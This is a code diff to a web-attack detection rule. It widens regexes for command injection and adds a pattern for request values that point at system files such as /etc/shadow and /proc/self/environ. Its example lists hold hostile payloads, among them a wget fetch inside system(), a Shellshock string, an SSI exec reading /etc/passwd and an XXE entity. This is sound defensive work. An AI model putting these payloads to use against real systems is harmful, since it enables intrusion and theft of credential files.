@@ -67,7 +67,7 @@ export const rule: Rule = {
       re: /(?:system|exec|eval|passthru|shell_exec|popen|proc_open)\(["'](?:cat|type|less|head)[ +%]{1,3}(?:20)?(?:\/etc\/|c:\\boot)/i,
     },
     {
-      re: /(?:system|exec|eval|passthru|shell_exec|popen|proc_open)\(["'](?:whoami|uname(?: -a)?|id|pwd|dir|ls(?: -\w{1,4})?|sleep \d{1,3}|(?:curl|wget) https?:\/\/[\w./?=&-]{4,100})["']\s?[,)]/i,
+      re: /(?:system|exec|eval|passthru|shell_exec|popen|proc_open)\(["'](?:whoami|uname(?: -a)?|id|pwd|dir|ls(?: -\w{1,4})?|sleep \d{1,3}|(?:curl|wget) https?:\/\/[\w./?=&: -]{4,100})["']\s?[,)]/i,
       accept: ({ before, fromStart }) => isInjected(before, fromStart),
     },
     { re: /(?<=\()(?:T\(java\.lang\.Runtime\)|new java\.lang\.ProcessBuilder)/ },
@@ -100,6 +100,11 @@ export const rule: Rule = {
       re: /\.\.[\\/]{1,3}(?:etc[\\/](?:passwd|shadow|hosts)|proc[\\/]self|windows[\\/](?:win\.ini|system32)|boot\.ini)(?!\w)/i,
       accept: isInRequest,
     },
+    // What no page is called, where a value begins: `file=/etc/shadow`
+    {
+      re: /=\/?(?:etc\/(?:group|passwd|shadow|sudoers|master\.passwd)|proc\/self\/(?:environ|cmdline|maps))(?![\w.-])/,
+      accept: isInRequest,
+    },
     // Options that name a program to run, in the place of a file or a host.
     { re: /=--?(?:oProxyCommand|upload-pack|use-askpass|checkpoint-action)=/, accept: isInRequest },
     {
@@ -127,6 +132,8 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      '/get?file=etc/shadow',
+      "/get?x=system('wget http://files.invalid/a -O b');",
       '/post\nfoo=() {',
       '() { :;}; /bin/sleep 5',
       '<!--#exec cmd="/bin/cat /etc/passwd"-->',
@@ -162,6 +169,8 @@ export const rule: Rule = {
       '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
     ],
     silent: [
+      'FILE=/etc/group',
+      '/get?page=/etc/hosts.html',
       '/post\nfoo=() => { x() }',
       'function f() { return 1; }',
       '<!-- #include the header -->',
